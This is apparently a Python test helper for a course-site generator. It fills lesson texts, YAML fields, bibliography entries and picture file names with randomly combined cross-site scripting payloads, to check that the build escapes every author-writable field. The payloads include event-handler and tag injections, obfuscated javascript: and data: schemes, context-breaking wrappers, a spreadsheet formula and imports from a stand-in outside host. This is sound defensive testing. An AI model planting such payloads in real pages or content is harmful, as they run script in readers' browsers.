"""A course whose texts are all meant to act in the browser of who reads it, as far as they may be.

Each text of the schemas that an author can write is replaced by a hostile one; what is told as a
mistake is taken back, until the course is without any. So a new field is tried by itself.
"""

from __future__ import annotations

import json
import re
from bisect import bisect_right
from collections.abc import Collection, Iterable, Iterator, Mapping
from itertools import accumulate
from pathlib import Path
from random import Random
from typing import Any

from fuzzing.courses import course_with_most_keys
from mistakes import SMALL_COURSE
from more_questions import QUESTIONS, with_questions
from sites import ROOT, project_with
from studyguide.command.check import read
from studyguide.languages.rules import FOLDER
from studyguide.model.problems import stopping
from studyguide.model.yaml_loader import load
from studyguide.reading.schemas import schemas
from studyguide.text.checks.document_checks import document_faults
from studyguide.text.parsing.parse import parse_blocks
from studyguide.text.tree.blocks import Paragraph
from test_properties import CHECKS

LESSON = Path("content/lessons/01-walking-downhill")
ELSEWHERE = "https://elsewhere.example/x"
_ACT = ("window.acted=1", "acted=1", "import('https://elsewhere.example/x')", "top.acted=1")
_HANDLERS = (
    "onclick",
    "onload",
    "onerror",
    "ONMOUSEOVER",
    "onfocus",
    "ontoggle",
    "onanimationstart",
)
_TAGS = (
    "script", "img src=x", "svg", "svg><script", "iframe", "object", "embed",
    "base href=//e.example/", "meta http-equiv=refresh content=0;url=javascript:acted=1",
    "link rel=stylesheet href=//e.example/", "style", "form action=javascript:acted=1",
    "math><mtext", "details open", "a href=javascript:acted=1", "video poster=//e.example/",
    "template", "noscript", "textarea", "title", "plaintext", "input autofocus",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "&#106;avascript:",
    "&#x6A;avascript:", "java&Tab;script:", "javascript&colon;", "javascript%3A",
    "data:text/html,", "data:image/svg+xml,", "vbscript:", "blob:", "filesystem:",
    "view-source:javascript:", "\u00a0javascript:", "//e.example/",
)  # fmt: skip
_AROUND = (
    "{}", "{}", "a {} b", "*{}*", "`{}`", "$\\text{{{}}}$", "**{}** <!-- x -->", '"{}"', "'{}'",
    '">{}', "'>{}", "]]>{}", "-->{}", "</title>{}", "</script>{}", "</textarea>{}", "\\{}",
    "{{{{ {} }}}}", "{{% {} %}}", "`a` {}", "==x== {}",
)  # fmt: skip
_BLOCKS = (
    "{}", "- {}", "> {}", "1. {}", "    {}", "```html\n{}\n```", "```{}\nx\n```",
    "!!! note\n\n    {}", '=== "{}"\n\n    {}', "| a |\n| --- |\n| {} |", "## {} {#id}", "*[x]: {}",
    "$$\n{}\n$$", "x\n: {}",
)  # fmt: skip


NAMES = ("{{ x }}.svg", "a' onerror=acted=1 '.svg", "a&quot onload=acted=1.svg", "${x}.svg")
"""Names that pictures may have."""


def with_pictures(figures: Path, names: Iterable[str]) -> None:
    """Show pictures in the texts of the lesson beside their folder."""
    for text in figures.parent.glob("lesson.*.md"):
        shown = "".join(f"\n![A bowl](<figures/{name}>)\n" for name in names)
        text.write_text(f"{text.read_text('utf-8')}\n{shown}", "utf-8")


def hostile_line(random: Random) -> str:
    """Return one line that would act, or ask another site, if anybody took it for markup."""
    act, handler, scheme = random.choice(_ACT), random.choice(_HANDLERS), random.choice(_SCHEMES)
    tag = random.choice(_TAGS)
    name = re.split(r"[\s>]", tag)[0]
    core = random.choice((
        f"<{tag}>{act}</{name}>", f"<{tag} {handler}={act}>", f'<{tag} {handler}="{act}"//',
        f"<{tag}/{handler}={act}", f"[x]({scheme}{act})", f"![x]({scheme}{act})",
        f"[x](<{scheme}{act}>)", f"<{scheme}{act}>", f"{scheme}{act}",
        f'[x](https://x.example "{handler}={act}")', f"*x*{{: {handler}={act} }}",
        f"x{{ {handler}={act} }}", f"x{{#a\" {handler}={act} }}",
        f"[[gradient|<{tag} {handler}={act}>]]", f"[[|<{tag}>{act}]]",
        f"$\\href{{{scheme}{act}}}{{x}}$", f"$\\class{{x\" {handler}={act}}}{{x}}$",
        f"$\\unicode{{<{tag}>}}$", f"$\\text{{<{tag}>{act}</{name}>}}$", f"@import '{ELSEWHERE}'",
        f"}}*{{background:url({ELSEWHERE})}}", f"![x]({ELSEWHERE}.png)", f"${{{act}}}",
        f"=HYPERLINK({ELSEWHERE})", f"&lt;{tag}&gt;{act}", f"\\u003c{tag}>{act}",
    ))  # fmt: skip
    return random.choice(_AROUND).format(core)


def hostile_block(random: Random) -> str:
    """Return some lines of the same kind."""
    line = hostile_line(random)
    return (
        random.choice(_BLOCKS)
        .replace("{}", line)
        .replace("{#id}", f"{{#h{random.randrange(10**9)}}}")
    )


def hostile_course(folder: Path, seed: int) -> tuple[Path, set[str]]:
    """Return a project in a folder that can be built, and the keys with hostile texts in it."""
    random = Random(seed)
    most_keys = course_with_most_keys(folder / "keys")
    project = with_questions(project_with(SMALL_COURSE.relative_to(ROOT).as_posix(), folder))
    lesson = project / LESSON
    for copy in (lesson / "figures/curve.svg", project / "content/logo.svg"):
        copy.write_bytes((lesson / "figures/parabola.svg").read_bytes())
    for name in NAMES:
        (lesson / "figures" / name).write_bytes((lesson / "figures/parabola.svg").read_bytes())
    with_pictures(lesson / "figures", NAMES)
    with (project / "mkdocs.yml").open("a", encoding="utf-8") as settings:
        settings.write("extra: {booklets: false}\n")  # the printer refuses what a page may not
    _write_lesson(random, project, 300)
    _write_works(random, project, 40)
    words = {code: _words(project, code) for code in ("en", "nb")}
    files = {
        "content/course.yml": _course_data(most_keys),
        **{f"content/languages/{code}.yml": own for code, own in words.items()},
    }
    kept = {key for name, data in files.items() for key in _kept(random, project / name, data)}
    for name, times in (("terms.yml", 6), ("quiz.yml", 2)):
        file = lesson / name
        entries = _entries(most_keys / LESSON / name, name)
        own = load(file.read_text("utf-8"))
        ids = ((entry, f"{entry['id']}-{number}") for entry in entries for number in range(times))
        data = [*own, *(_renamed(*one) for one in ids)]
        kept |= _kept(random, file, data, spared=len(own))
    return project, {str(key) for path in kept for key in path}


def with_hostile_words(file: Path, seed: int) -> int:
    """Put hostile texts into a YAML file of a project; return how many it keeps."""
    return len(_kept(Random(seed), file, load(file.read_text("utf-8"))))


def _words(project: Path, code: str) -> Any:
    """Return the words of a language, which a course may put others in the place of."""
    (project / "content/languages").mkdir(exist_ok=True)
    words = load((FOLDER / code / "words.yml").read_text("utf-8"))
    named = {"languages": {"en": "English", "nb": "Norsk"}}
    return {key: words[key] for key in sorted(words.keys() - {"decimal"})} | named


def _write_works(random: Random, project: Path, number: int) -> None:
    """Add works to cite whose titles, authors and addresses would act, and cite them."""
    file = project / "content/references.bib"
    lines = [
        f"@misc{{w{at}, title = {{{_unbraced(random)}}}, author = {{{_unbraced(random)}}},"
        f" year = 2020, note = {{{_unbraced(random)}}}, url = {{{_unbraced(random)}}}}}"
        for at in range(number)
    ]
    while True:
        file.write_text("\n".join(lines), "utf-8")
        found = _problems(file, {at: (at,) for at in range(1, len(lines) + 1)})
        if not found:
            break
        assert () not in found, found
        lines = [line for at, line in enumerate(lines, start=1) if (at,) not in found]
    for text in (project / LESSON).glob("lesson.*.md"):
        cited = " ".join(f"[@{line[6 : line.index(',')]}]" for line in lines)
        text.write_text(f"{text.read_text('utf-8')}\n{cited}\n", "utf-8")


def _unbraced(random: Random) -> str:
    return re.sub(r"[{}\\\n]", "", hostile_line(random))


def _course_data(most_keys: Path) -> Any:
    data = load((most_keys / "content/course.yml").read_text("utf-8"))
    return {**data, "languages": ["en", "nb"], "id": "small-course"}


def _entries(file: Path, name: str) -> list[Any]:
    entries = load(file.read_text("utf-8"))
    if name == "quiz.yml":
        entries += load(QUESTIONS.read_text("utf-8"))
    return [entry for entry in entries if not entry.get("draft")]


_NAMES = ("formerly", "aliases", "forms", "linked", "unlinked", "prefer", "short")


def _renamed(entry: dict[str, Any], id_: str) -> dict[str, Any]:
    """Return an entry under another id, and with names of its own."""
    copy: dict[str, Any] = json.loads(json.dumps(entry, default=str))
    copy["id"] = id_
    if "name" in copy:
        copy = {key: copy[key] for key in copy.keys() - _NAMES} | {"name": id_}
    copy.pop("formerly", None)
    return copy


_FACTS = re.compile(r"^(title|summary): .*$", re.MULTILINE)
_STRUCTURE = frozenset((
    "id", "languages", "kind", "lessons", "number", "terms", "requires", "contrast", "see",
    "part_of", "section",
))  # fmt: skip
"""Keys whose texts are names of something else."""
_Path = tuple[str | int, ...]


def _leaves(data: Any, path: _Path = ()) -> Iterator[tuple[_Path, str]]:
    """Yield the path of every text that is not the name of something else, and the text."""
    if isinstance(data, dict | list):
        for key, value in data.items() if isinstance(data, dict) else enumerate(data):
            yield from _leaves(value, (*path, key))
    elif isinstance(data, str) and (_is_name(path) or _STRUCTURE.isdisjoint(path)):
        yield path, data


def _is_name(path: _Path) -> bool:
    """Whether a path is that of the name of a language, in the words of another one."""
    return path[0] == "languages" and isinstance(path[-1], str)


def _lacking(data: Any, node: Any, defs: Any, path: _Path = ()) -> Iterator[tuple[_Path, bool]]:
    """Yield the path of every text that the schema knows and data lacks, and whether it is a list.

    A text that a schema has but whose record is nowhere in the data is told by a test.
    """
    node = _resolved(node, defs, data)
    if isinstance(data, list):
        for at, one in enumerate(data):
            yield from _lacking(one, node.get("items", {}), defs, (*path, at))
    for key, inner in node.get("properties", {}).items() if isinstance(data, dict) else ():
        if key in data:
            yield from _lacking(data[key], inner, defs, (*path, key))
        elif key not in _STRUCTURE and (is_list := _takes_text(inner)) is not None:
            yield (*path, key), is_list


def _resolved(node: Any, defs: Any, data: Any) -> Any:
    """Return the schema of a record: of several, that of its kind, or the one that is no text."""
    if "discriminator" in node and isinstance(data, dict):
        node = {"$ref": node["discriminator"]["mapping"][data["kind"]]}
    for choice in node.get("anyOf", ()):
        if "$ref" in choice and isinstance(data, dict):
            node = choice
    return defs[node["$ref"].rpartition("/")[2]] if "$ref" in node else node


def _takes_text(node: Any) -> bool | None:
    """Return False if a schema takes any text, True if a list of texts, None if neither."""
    for choice in node.get("anyOf", (node,)):
        for one, is_list in ((choice, False), (choice.get("items", {}), True)):
            if one.get("type") == "string" and not {"enum", "const", "format"} & one.keys():
                return is_list
    return None


def _put(data: Any, path: _Path, value: Any) -> Any:
    """Put a value in the place of another one, and return that; None stands for none."""
    for key in path[:-1]:
        data = data[key]
    before = data.get(path[-1]) if isinstance(data, dict) else data[path[-1]]
    if value is None:
        del data[path[-1]]
    else:
        data[path[-1]] = value
    return before


def _kept(random: Random, file: Path, data: Any, *, spared: int = 0) -> set[_Path]:
    """Write hostile texts into a file, take back what is told, and return where they are."""
    assert (told := _problems(file, _written(file, data))) == {}, told
    changes: dict[_Path, Any] = {}
    for path, text in _leaves(data):
        kind = hostile_block if len(text) > 60 and random.random() < 0.7 else hostile_line
        new = kind(random)
        changes[path] = f"{text} {new}" if random.random() < 0.5 else new
    known = json.loads(schemas().get(f"{file.stem}.schema.json", "{}"))
    for path, is_list in _lacking(data, known, known.get("$defs", {})):
        changes[path] = [hostile_line(random)] if is_list else hostile_line(random)
    own = {path: new for path, new in changes.items() if not spared or int(path[0]) >= spared}
    before = {path: _put(data, path, new) for path, new in own.items()}
    while problems := _problems(file, _written(file, data)):
        blamed = {path for place in problems for path in _blamed(place, before)}
        for path in blamed or {*random.sample([*before], len(before) // 3 + 1)}:
            _put(data, path, before.pop(path))
    return {*before}


def _blamed(place: _Path, changed: Collection[_Path]) -> list[_Path]:
    """Return what has been changed in a place, or else around it; nothing of another file."""
    for length in range(len(place), 0, -1):
        if found := [path for path in changed if path[:length] == place[:length]]:
            return found
    return []


def _problems(file: Path, places: Mapping[int, _Path]) -> dict[_Path, str]:
    """Return what is told of the course of a file, by the place in it, else by an empty place."""
    project = next(above for above in file.parents if (above / "mkdocs.yml").is_file())
    found = stopping(read(project)[1], strict=True)
    path = file.relative_to(project).as_posix()
    return {places[one.line] if one.path == path else (): str(one) for one in found}


def _written(file: Path, data: Any) -> dict[int, _Path]:
    """Write data as JSON, which is YAML too, and return what is on each line."""
    rows: list[tuple[str, _Path]] = []

    def write(value: Any, path: _Path, before: str, after: str) -> None:
        if isinstance(value, dict | list) and value:
            is_map = isinstance(value, dict)
            rows.append((before + "[{"[is_map], path))
            inner = [*(value.items() if isinstance(value, dict) else enumerate(value))]
            for at, (key, one) in enumerate(inner, start=1):
                name = f"{json.dumps(key, ensure_ascii=False)}: " if is_map else ""
                write(one, (*path, key), name, "," * (at < len(inner)))
            rows.append(("]}"[is_map] + after, path))
        else:
            text = json.dumps(value, ensure_ascii=False, default=str)
            rows.append((before + text + after, path))

    write(data, (), "", "")
    file.write_text("\n".join(row for row, _ in rows), encoding="utf-8")
    return {number: path for number, (_, path) in enumerate(rows, start=1)}


def _write_lesson(random: Random, project: Path, number: int) -> None:
    """Add blocks that are no mistake to both texts of a lesson, below titles that would act."""
    blocks = (hostile_block(random) for _ in range(number))
    well = [block for block in blocks if _is_well(block)]
    title = hostile_line(random).replace("'", "\u2019")
    files = sorted((project / LESSON).glob("lesson.*.md"))
    texts = [re.sub(_FACTS, lambda fact: f"{fact[1]}: 'A {title} b'", file.read_text("utf-8"))
             for file in files]  # fmt: skip
    while True:
        for file, text in zip(files, texts, strict=True):
            file.write_text("\n\n".join((text.rstrip(), *well)) + "\n", "utf-8")
        if not (found := stopping(read(project)[1], strict=True)):
            return
        starts = _starts(texts[0], well)
        wrong = {bisect_right(starts, one.line) - 1 for one in found if "lesson.en" in one.path}
        assert wrong - {-1}, found
        well = [block for at, block in enumerate(well) if at not in wrong]


def _starts(text: str, blocks: list[str]) -> list[int]:
    """Return the line on which each block begins below a text."""
    heights = (block.count("\n") + 2 for block in blocks)
    return [*accumulate(heights, initial=text.rstrip().count("\n") + 3)][:-1]


def _is_well(block: str) -> bool:
    """Return whether a block is no mistake and ends before the next one."""
    document, faults = parse_blocks(f"{block}\n\nEnd.")
    whole = [*faults, *document_faults(document, CHECKS)]
    return not whole and isinstance(end := document.blocks[-1], Paragraph) and end.line > 0


def untried_fields(folder: Path) -> set[str]:
    """Return `Record.key` for each text of the schemas whose record is in no file that is changed.

    What such a record has, or could have, is tried: see `_lacking`.
    """
    most_keys = course_with_most_keys(folder / "keys")
    lesson = most_keys / LESSON
    data = {
        "course": _course_data(most_keys),
        "terms": _entries(lesson / "terms.yml", "terms.yml"),
        "quiz": _entries(lesson / "quiz.yml", "quiz.yml"),
    }
    untried: set[str] = set()
    for name, records in data.items():
        schema = json.loads(schemas()[f"{name}.schema.json"])
        seen = {*_records(records, schema, schema["$defs"])}
        untried |= {
            f"{title}.{key}"
            for title, record in schema["$defs"].items()
            for key, node in record.get("properties", {}).items()
            if _takes_text(node) is not None and frozenset(record["properties"]) not in seen
        }
    return untried


def _records(data: Any, node: Any, defs: Any) -> Iterator[frozenset[str]]:
    """Yield the keys of every record that data has."""
    node = _resolved(node, defs, data)
    if isinstance(data, list):
        for one in data:
            yield from _records(one, node.get("items", {}), defs)
    elif isinstance(data, dict) and "properties" in node:
        yield frozenset(node["properties"])
        for key, value in data.items():
            yield from _records(value, node["properties"].get(key, {}), defs)
